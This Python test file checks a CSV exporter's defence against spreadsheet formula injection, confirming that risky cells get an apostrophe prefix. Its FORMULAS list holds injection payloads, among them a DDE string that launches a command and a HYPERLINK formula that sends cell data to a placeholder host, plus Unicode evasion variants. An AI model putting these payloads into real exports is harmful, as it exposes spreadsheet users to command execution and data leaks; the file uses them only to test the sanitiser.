"""CSV for people: no cell is one that a spreadsheet runs; CSV for machines: texts as they are."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import given, settings
from tests.delivery.test_values_are_text import examples, hostile
from tests.delivery.world import World

from tapestry.delivery.csv_text import as_csv, safe

FORMULAS = [
    "-1|'C'!A0",
    "\xad=1",
    "\u2060+cmd|x",
    "\u202e@SUM(1)",
    "\x9f=1",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd",
    "-1+cmd",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1+1",
    "＋1+1",
    "－x",
    "＠x",
    "-",
    "=",
]
NUMBERS = ["-5", "+5", "-5.25", "-1E10", "-.5", "+1e-7", "-Infinity"]


@pytest.mark.parametrize("text", FORMULAS)
def test_cells_that_a_spreadsheet_would_run(text: str) -> None:
    rows = [json.dumps({text: text, "n": -5, "d": {"x": text}, "s": f"a;{text}"})]
    columns = [text, "n", "d", "s"]
    header, row = csv.reader(io.StringIO(as_csv(rows, columns), newline=""))
    assert header[0] == row[0]
    assert header[0].startswith("'")
    assert row[1] == "-5"
    # Read with another separator, or with quotes that mean nothing, no cell begins a formula.
    for line in (header, row):
        for cell in line:
            for part in re.split(r'[;,\t|"\r\n]', cell):
                assert not re.match(r"[=+@＝＋－＠]|-(?!\d+$)", part), (cell, part)
    machine = as_csv(rows, columns, spreadsheet_safe=False)
    assert next(iter(csv.DictReader(io.StringIO(machine, newline=""))))[text] == text


def test_a_cell_that_python_before_3_11_does_not_read() -> None:
    assert safe("\x00=1") == "'\x00=1"


@pytest.mark.parametrize("text", [*NUMBERS, "so - so", "a=b", "x@y.org", "2026-01-01", "a, -b", ""])
def test_cells_that_stay(text: str) -> None:
    assert safe(text) == text


@examples
@settings(max_examples=60, deadline=None)
@given(hostile)
def test_nothing_but_apostrophes_is_added(value: str) -> None:
    kept = safe(value)
    assert kept.replace("'", "") == value.replace("'", "")
    assert safe(kept) == kept
    assert not re.match(r"\s*[=+@＝＋－＠]", kept) or re.fullmatch(
        r"\s*\+[0-9.eE+-]+.*", kept, re.S
    )


def test_the_setting_reaches_the_file(world: World) -> None:
    csv_sink = {"to": "file", "format": "csv"}
    world.create(
        {"name": "people", "path": "people", **csv_sink},
        {"name": "machines", "path": "machines", "spreadsheet_safe": False, **csv_sink},
    ).deliver()
    world.run(20)
    world.session.connection.execute(
        "INSERT INTO db.model VALUES (-2, '=1+1', TIMESTAMP '2026-01-01 00:00:15+00:00')"
    )
    world.deliver()
    ((people,), (machines,)) = ((world.root / n).glob("*") for n in ("people", "machines"))
    assert people.read_text().splitlines()[1].startswith("-2,'=1+1,2026")
    assert machines.read_text().splitlines()[1].startswith("-2,=1+1,2026")
